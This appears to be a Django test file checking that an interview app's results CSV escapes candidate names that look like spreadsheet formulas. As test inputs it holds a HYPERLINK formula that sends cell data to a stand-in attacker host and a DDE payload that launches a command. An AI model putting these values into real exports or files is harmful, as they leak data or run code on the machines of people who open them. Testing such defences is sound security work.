"""results.csv never hands the interviewer's spreadsheet a formula from a candidate."""

import csv
import io

from django.urls import reverse

from .test_results import _take

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def _rows(alice_client, screening) -> list[list[str]]:
    response = alice_client.get(reverse("interviews:results_csv", args=[screening.pk]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_candidate_named_like_a_formula_is_text_in_the_csv(screening, alice_client):
    _take(screening, FORMULA, right=True)
    _take(screening, "@SUM(1+1)*cmd|' /C calc'!A0", right=False)
    header, *rows = _rows(alice_client, screening)
    names = [row[header.index("candidate")] for row in rows]
    assert names == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def test_scores_stay_numbers(screening, alice_client):
    _take(screening, "Ana", right=True)
    header, row = _rows(alice_client, screening)
    for column in ("seconds_taken", "score", "max_score", "percent"):
        assert float(row[header.index(column)]) >= 0, column
